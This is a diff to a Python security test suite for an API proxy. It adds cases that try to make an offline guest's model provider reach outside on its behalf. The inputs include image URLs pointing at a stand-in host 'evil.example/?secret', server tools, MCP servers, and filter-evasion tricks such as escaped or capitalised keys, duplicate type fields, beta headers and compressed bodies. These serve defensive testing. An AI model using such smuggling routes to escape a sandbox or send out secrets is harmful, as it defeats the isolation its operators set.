@@ -135,8 +135,34 @@ def lines():
     yield "another workspace's token for a secret", request_of("GET /secret/mine/x HTTP/1.1").replace(TOKEN, OTHER_TOKEN)
 
 
+def reaching():
+    """An offline guest that has its provider reach somewhere for it."""
+    evil = "https://evil.example/?secret"
+    turn = lambda *parts: {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": list(parts)}]}
+    picture = lambda source: turn({"type": "image", "source": source})
+    for what, body in (
+            ("a picture by URL", picture({"type": "url", "url": evil})),
+            ("a picture by URL inside a tool's result", turn({"type": "tool_result", "content": [{"type": "image", "source": {"type": "url", "url": evil}}]})),
+            ("a file kept at the provider", picture({"type": "file", "file_id": "file_1"})),
+            *((f"the server tool {tool}", {**turn(), "tools": [{"type": tool, "name": "t"}]}) for tool in (
+                "web_search_20250305", "web_fetch_20250910", "code_execution_20250825", "mcp_toolset", "a_tool_of_tomorrow")),
+            ("an MCP server", {**turn(), "mcp_servers": [{"type": "url", "url": evil, "name": "n"}]}),
+            ("a container", {**turn(), "container": "c"})):
+        text = json.dumps(body)
+        yield what, post(body=text)
+        yield f"{what}, keys escaped", post(body=text.replace('"t', '"\\u0074').replace('"u', '"\\u0075'))
+        yield f"{what}, keys in capitals", post(body=text.replace('"type"', '"TYPE"').replace('"tools"', '"TOOLS"'))
+    yield "a harmless type before the true one", post(body='{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"custom","type":"web_search_20250305"}]}')
+    yield "a harmless type behind the true one", post(body='{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_search_20250305","type":"custom"}]}')
+    yield "a beta that switches tools on", post("/v1/messages", "anthropic-beta: a,mcp-client-2025-11-20")
+    yield "a beta in a second header", post("/v1/messages", "anthropic-beta: a", "Anthropic-Beta: web-fetch-2025-09-10")
+    yield "a compressed body", post("/v1/messages", "Content-Encoding: gzip")
+    yield "a body compressed behind another word", post("/v1/messages", "Content-Encoding: identity", "Content-Encoding: br")
+    yield "an answer in the background", post(body=BODY.replace("{", '{"background": true, ', 1))
+
+
 def try_requests(arena):
-    for what, request in [*smuggled(), *lines()]:
+    for what, request in [*smuggled(), *lines(), *reaching()]:
         Provider.asked.clear()
         heard = say(arena, request)
         status = heard.split(b"\r\n", 1)[0].decode("latin-1")[:60] or "hung up"
@@ -149,6 +175,9 @@ def check_controls(arena):
     arena.control("a proper request reaches the provider with the key", Provider.asked and
                   Provider.asked[-1][2].get("x-api-key") == KEY and b" 200 " in heard[:20])
     arena.control("and without the token", TOKEN not in json.dumps(Provider.asked[-1]))
+    account = ("OpenAI-Organization", "OpenAI-Project", "x-goog-user-project", "anthropic-workspace-id", "Cookie")
+    say(arena, post("/v1/messages?quotaUser=of-the-guest", *(f"{name}: of-the-guest" for name in account)))
+    arena.control("and with nothing of the account that the guest has chosen", "of-the-guest" not in json.dumps(Provider.asked[-1]))
     heard = say(arena, request_of("GET /secret/mine/path HTTP/1.1", "Authorization: Bearer mine-not-yours"))
     arena.control("a granted secret reaches its origin", SECRET in json.dumps(Provider.asked[-1]) and b" 200 " in heard[:20])
     arena.control("in place of the guest's header", "mine-not-yours" not in json.dumps(Provider.asked[-1]))
